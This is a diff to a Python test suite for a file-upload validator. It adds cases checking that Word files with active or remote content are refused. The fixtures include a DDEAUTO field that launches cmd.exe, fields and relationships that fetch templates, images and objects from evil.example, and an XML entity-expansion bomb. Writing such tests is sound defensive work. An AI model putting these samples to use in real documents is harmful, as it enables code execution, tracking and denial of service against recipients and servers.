@@ -61,13 +61,13 @@ DOCUMENT = (
 )
 
 
-def docx(extra=(), skip=()):
+def docx(extra=(), skip=(), document=DOCUMENT):
     out = io.BytesIO()
     with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
         for name, data in [
             ("[Content_Types].xml", CONTENT_TYPES),
             ("_rels/.rels", ROOT_RELS),
-            ("word/document.xml", DOCUMENT),
+            ("word/document.xml", document),
             *extra,
         ]:
             if name not in skip:
@@ -444,3 +444,90 @@ def test_safe_name_forces_detected_extension():
     assert safe_name("photo.jpeg", "image/jpeg") == "photo.jpg"
     assert safe_name("photo.png", "image/jpeg") == "photo.jpg"
     assert safe_name("notes.pdf", DOCX) == "notes.docx"
+
+
+# Word documents: fields, links out and pulled-in documents (parsed as XML, never searched as bytes)
+
+W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+R_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+
+
+def word_body(inner):
+    return f'<?xml version="1.0"?><w:document {W}><w:body><w:p>{inner}</w:p></w:body></w:document>'.encode()
+
+
+def field_in_runs(*pieces):
+    """A field whose code is split over several runs, as Word writes it after editing."""
+    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
+    return (
+        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
+        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown</w:t></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+    )
+
+
+def relationships(kind, target, external=True):
+    mode = ' TargetMode="External"' if external else ""
+    return (
+        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f'<Relationship Id="rId7" Type="{R_TYPE}{kind}" Target="{target}"{mode}/></Relationships>'
+    ).encode()
+
+
+@pytest.mark.parametrize(
+    "document",
+    [
+        word_body('<w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;"/>'),
+        word_body(field_in_runs("DD", "E excel ", '"c:\\\\x"')),
+        word_body(field_in_runs(' INCLUDETEXT "\\\\\\\\evil.example\\\\share\\\\a.docx" ')),
+        word_body(field_in_runs(' includepicture "http://evil.example/track.png" \\d ')),
+        word_body(field_in_runs(" LINK Excel.Sheet.12 ", '"http://evil.example/x.xlsx"')),
+        word_body(
+            '<w:r><w:t>x</w:t></w:r></w:p><w:altChunk r:id="rId7" '
+            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/><w:p>'
+        ),
+        word_body("<w:r><w:object><w:t>embedded</w:t></w:object></w:r>"),
+    ],
+    ids=["dde-simple", "dde-split-over-runs", "includetext", "includepicture-lowercase", "link", "altchunk", "object"],
+)
+def test_docx_with_fields_that_run_or_fetch_or_pulled_in_content(document):
+    data = docx(document=document)
+    assert rejected(data, "a.docx").code == "docx_active"
+
+
+@pytest.mark.parametrize(
+    ("part", "rels"),
+    [
+        ("word/_rels/document.xml.rels", relationships("image", "http://evil.example/pixel.png")),
+        ("word/_rels/document.xml.rels", relationships("oleObject", "file://evil.example/x.bin")),
+        ("word/_rels/document.xml.rels", relationships("aFChunk", "afchunk.mht", external=False)),
+        ("word/_rels/settings.xml.rels", relationships("attachedTemplate", "https://evil.example/t.dotm")),
+        ("word/_rels/webSettings.xml.rels", relationships("frame", "http://evil.example/f.html")),
+    ],
+    ids=["remote-picture", "remote-object", "altchunk-part", "remote-template", "frame"],
+)
+def test_docx_with_links_out_or_pulled_in_documents(part, rels):
+    assert rejected(docx([(part, rels)]), "a.docx").code == "docx_active"
+
+
+def test_docx_with_ordinary_fields_and_a_web_link_is_fine():
+    document = word_body(field_in_runs(" PAGE ") + field_in_runs(" HYPERLINK ", '"https://www.gov.uk/"'))
+    rels = relationships("hyperlink", "https://www.gov.uk/")
+    data = docx([("word/_rels/document.xml.rels", rels)], document=document)
+    assert validate_upload(upload("a.docx", data)).content_type == DOCX
+
+
+def test_docx_part_that_is_not_xml_is_damaged():
+    data = docx([("word/styles.xml", b"<w:styles <<< not xml")])
+    assert rejected(data, "a.docx").code == "docx_damaged"
+
+
+def test_docx_with_an_entity_expansion_bomb_is_not_expanded():
+    """Entities are never expanded (a billion of them would take the server's memory): the parser
+    stops at once, and a file Word would never write is refused as damaged."""
+    entities = '<!ENTITY e0 "aaaaaaaaaa">' + "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
+    bomb = (
+        f'<?xml version="1.0"?><!DOCTYPE w:document [{entities}]><w:document {W}><w:body><w:p><w:r>'
+        "<w:t>&e9;</w:t></w:r></w:p></w:body></w:document>"
+    ).encode()
+    assert rejected(docx(document=bomb), "a.docx").code == "docx_damaged"
